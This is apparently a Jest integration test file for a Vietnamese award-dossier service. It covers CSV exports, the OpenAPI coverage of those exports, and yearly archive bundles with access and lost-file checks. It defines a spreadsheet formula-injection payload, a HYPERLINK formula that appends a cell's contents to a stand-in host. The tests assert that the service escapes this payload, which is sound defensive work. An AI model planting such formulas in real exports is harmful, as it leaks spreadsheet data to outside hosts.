import { readFileSync } from 'node:fs';
import { mkdtemp, readFile, rename, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { checkBag, unpack } from '@vinhdanh/archive';
import { today } from '../support/days';
import type { HttpCaller } from '../support/http-caller';
import { handIn, shows, wordsOf } from '../support/http-dossiers';
import { startHttpStack, type HttpStack } from '../support/http-stack';
import { newSigner, sealAll } from '../support/sealed-record';

jest.setTimeout(60_000);

const HOSTILE = '=HYPERLINK("http://x.example?"&A1,"Bấm vào đây")';

let stack: HttpStack;
beforeAll(async () => {
  stack = await startHttpStack();
}, 60_000);
afterAll(() => stack.stop());

const text = (bytes: Buffer): string => bytes.toString('utf8');

/** @returns its code, its id, and the hash of its document */
async function submitHostile(): Promise<{
  readonly code: string;
  readonly id: string;
  readonly file: string;
}> {
  const applicant = await stack.as('mttq.lap-ho-so');
  const file = await handIn(applicant, 'x');
  const words = wordsOf(file) as { content: { subject: object } };
  const subject = { ...words.content.subject, name: HOSTILE };
  const { body: draft } = await applicant.post('/api/drafts', {
    ...words,
    content: { ...words.content, subject },
  });
  const { body } = await applicant.command(`/api/drafts/${(draft as { id: string }).id}/submit`, {
    version: 1,
  });
  const { id, seq, code } = body as { id: string; seq: number; code: string };
  await shows(applicant, `/api/dossiers/${id}`, seq);
  return { code, id, file };
}

describe('lists as files', () => {
  it('give the limits of an office, and no name in them is a formula', async () => {
    const { code } = await submitHostile();
    const unit = await stack.as('mttq.thuong-truc', 'secretary');
    const { status, headers, bytes } = await unit.get('/api/limits/csv');
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(headers.get('content-disposition')).toContain('attachment; filename="han-cua-don-vi.csv"');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = text(bytes).split('\r\n');
    expect(header).toContain('Mã hồ sơ,Đối tượng,');
    const row = rows.find((line) => line.startsWith(code));
    expect(row).toContain(`,"'${HOSTILE.replaceAll('"', '""')}",Huân chương Lao động hạng Ba,tiếp nhận,`);
    const english = await unit.with({ 'Accept-Language': 'en' }).get('/api/limits/csv');
    expect(text(english.bytes)).toContain('Code,Subject,Award,Step,');
  });

  it('give the holders that the ledger finds, to who may see them', async () => {
    const standing = await stack.as('so-noi-vu.thuong-truc', 'secretary');
    const { status, bytes } = await standing.get('/api/ledger/subjects/csv?search=nguyen&kind=person');
    expect([status, text(bytes).split('\r\n')[0]]).toEqual([
      200,
      '\uFEFFHọ tên hoặc tên tập thể,Loại đối tượng,Năm sinh,Đơn vị,Số lần khen thưởng',
    ]);
    expect((await standing.get('/api/ledger/subjects/csv?kind=ghost')).status).toBe(422);
    expect((await stack.anyone.get('/api/ledger/subjects/csv')).status).toBe(401);
  });

  it('give what dossiers would be under a set, to administrators alone', async () => {
    const administrator = await stack.as('quan-tri.lang-son', 'administrator');
    const { inForce } = (await administrator.get('/api/rule-sets')).body as { inForce: { id: string } };
    const asked = `/api/rule-sets/${inForce.id}/what-if/csv`;
    const { status, bytes } = await administrator.get(asked);
    expect([status, text(bytes)]).toEqual([
      200,
      '\uFEFFMã hồ sơ,Đối tượng,"Danh hiệu, hình thức",Đã ghim,Điểm khác,Điều khoản\r\n',
    ]);
    const officer = await stack.as('so-noi-vu.thuong-truc', 'secretary');
    expect((await officer.get(asked)).body.code).toBe('office-wrong-role');
    expect((await administrator.get('/api/rule-sets/x/what-if/csv')).body.code).toBe('not-found');
  });
});

/** The lists that leave the house as files, each asked for hostile names: here, or where it says. */
const TRIED = [
  '/api/enactments/{id}/dossiers/csv', // enactment-paper.spec.ts
  '/api/ledger/subjects/csv',
  '/api/limits/csv',
  '/api/rule-sets/{id}/what-if/csv',
];

test('every list as a file is one of those that are tried for hostile names', () => {
  const { paths } = JSON.parse(readFileSync(join(__dirname, '../../docs/openapi.json'), 'utf8')) as {
    paths: Record<string, object>;
  };
  const lists = Object.keys(paths).filter((path) =>
    /text\/csv|spreadsheetml/.test(JSON.stringify(paths[path])),
  );
  expect(lists.filter((path) => !JSON.stringify(paths[path]).includes('requestBody')).sort()).toEqual(TRIED);
});

describe('the archive of a year', () => {
  const BODY = 'mttq-tinh-lang-son';
  const year = Number(today().slice(0, 4));
  const address = `/api/archives/${BODY}/${year}`;
  const signer = newSigner();
  let keeper: HttpCaller;
  let dossier: { readonly code: string; readonly id: string; readonly file: string };

  beforeAll(async () => {
    dossier = await submitHostile();
    const applicant = await stack.as('mttq.lap-ho-so');
    const { body } = await applicant.command(`/api/dossiers/${dossier.id}/withdraw`, { reason: 'Lập lại' });
    await shows(applicant, `/api/dossiers/${dossier.id}`, (body as { seq: number }).seq);
    await sealAll(stack.database, signer);
    keeper = await stack.as('mttq.thuong-truc', 'secretary');
  });

  const bagOf = async (bytes: Buffer): Promise<string> => {
    const folder = await mkdtemp(join(tmpdir(), 'vinhdanh-archived-'));
    await unpack(Readable.from([bytes]), folder);
    return folder;
  };

  it('is a bag that holds, the same whenever it is made, and no name in its tables is a formula', async () => {
    const { status, headers, bytes } = await keeper.get(`${address}?fonds=G09`);
    expect([status, headers.get('content-type')]).toEqual([200, 'application/zip']);
    expect(headers.get('content-disposition')).toContain(`luu-tru-${BODY}-${year}.zip`);
    const folder = await bagOf(bytes);
    expect(await checkBag(folder)).toMatchObject({ things: 1, documents: 2, lost: 0, faults: [] });
    const read = (name: string): Promise<string> => readFile(join(folder, 'metadata', name), 'utf8');
    expect(await read('muc-luc-ho-so.csv')).toContain(`'${HOSTILE.replaceAll('"', '""')}`);
    expect(await read('muc-luc-ho-so.csv')).not.toMatch(/(?:^|,)"?=/m);
    expect(await read('muc-luc.xml')).toMatch(
      /<maPhong>G09<.*<thoiHanLuuTru loai="chua-xac-dinh"[^>]* mucChungCu="N"/s,
    );
    await sealAll(stack.database, signer);
    expect((await keeper.get(`${address}?fonds=G09`)).bytes.equals(bytes)).toBe(true);
    await rm(folder, { recursive: true });
  });

  it('is offered where something has ended, with the periods, and is written down', async () => {
    const { body } = await keeper.get('/api/archives');
    expect(body).toMatchObject({ years: [{ body: { id: BODY }, year, closed: 1 }] });
    expect(JSON.stringify(body)).toMatch(
      /"id":"award-state",.*"keep":"permanent",.*"evidence":"M"|"evidence":"M".*"id":"award-state"/,
    );
    const auditor = await stack.as('kiem-toan.lang-son', 'auditor');
    const readings = async (): Promise<string> =>
      JSON.stringify((await auditor.get('/api/audit/readings')).body);
    const before = await readings();
    expect(before).toContain(`"why":null,"thingKind":"archive-${year}-${BODY}"`);
    expect((await keeper.get(`${address}/check`)).body).toEqual({
      ...{ name: `luu-tru-${BODY}-${year}`, dossiers: 1 },
    });
    expect(await readings()).toBe(before);
    expect((await auditor.get(address)).status).toBe(200);
    expect(await readings()).not.toBe(before);
  });

  it('is refused in words to who may not have it, and where there is nothing', async () => {
    const code = async (caller: HttpCaller, path: string): Promise<readonly unknown[]> => {
      const { status, body } = await caller.get(path);
      return [status, body.code];
    };
    expect(await code(keeper, `/api/archives/${BODY}/1999`)).toEqual([409, 'archive-empty']);
    expect(await code(keeper, `/api/archives/so-noi-vu-lang-son/${year}`)).toEqual([404, 'not-found']);
    expect(await code(keeper, `/api/archives/nowhere/${year}`)).toEqual([404, 'not-found']);
    expect(await code(keeper, `/api/archives/${BODY}/20x6`)).toEqual([404, 'not-found']);
    expect(await code(keeper, `${address}?x=1`)).toEqual([422, 'validation-failed']);
    expect(await code(keeper, `${address}?withoutLost=maybe`)).toEqual([422, 'validation-failed']);
    expect(await code(keeper, `/api/archives/${BODY}/1999/check`)).toEqual([409, 'archive-empty']);
    expect(await code(keeper, `/api/archives/nowhere/${year}/check`)).toEqual([404, 'not-found']);
    expect(await code(keeper, `${address}/check?fonds=G09`)).toEqual([422, 'validation-failed']);
    for (const path of [address, `${address}/check`, '/api/archives', `/api/archives/${BODY}/due`]) {
      expect(await code(await stack.as('mttq.lap-ho-so'), path)).toEqual([404, 'not-found']);
      expect(await code(stack.anyone, path)).toEqual([401, 'sign-in-required']);
    }
  });

  it('lists what is due on a day, and leaves out what nobody may yet throw away', async () => {
    expect((await keeper.get(`/api/archives/${BODY}/due?on=2199-01-01`)).body).toEqual({
      ...{ on: '2199-01-01', items: [], more: false },
    });
    expect((await keeper.get(`/api/archives/${BODY}/due?on=2199-13-01`)).status).toBe(422);
  });

  it('is refused while a file is lost, unless it is to go on without, and makes nothing whole of a damaged one', async () => {
    const { file } = dossier;
    const path = join(stack.files, file.slice(0, 2), file);
    await rename(path, `${path}.away`);
    const { status, body } = await keeper.get(address);
    expect([status, body.code, body.params]).toEqual([
      409,
      'archive-file-lost',
      expect.objectContaining({ code: dossier.code }),
    ]);
    expect((await keeper.get(`${address}/check`)).body).toMatchObject({
      code: body.code,
      params: body.params,
    });
    expect((await keeper.get(`${address}/check?withoutLost=true`)).body).toMatchObject({ dossiers: 1 });
    const folder = await bagOf((await keeper.get(`${address}?withoutLost=true`)).bytes);
    expect(await checkBag(folder)).toMatchObject({ things: 1, documents: 1, lost: 1, faults: [] });
    await rm(folder, { recursive: true });
    await writeFile(path, 'damaged');
    const answer = await keeper.get(address).catch(() => null);
    expect(answer?.status ?? 'broken off').not.toBe(200);
    await rename(`${path}.away`, path);
    expect((await keeper.get(address)).status).toBe(200);
  });
});
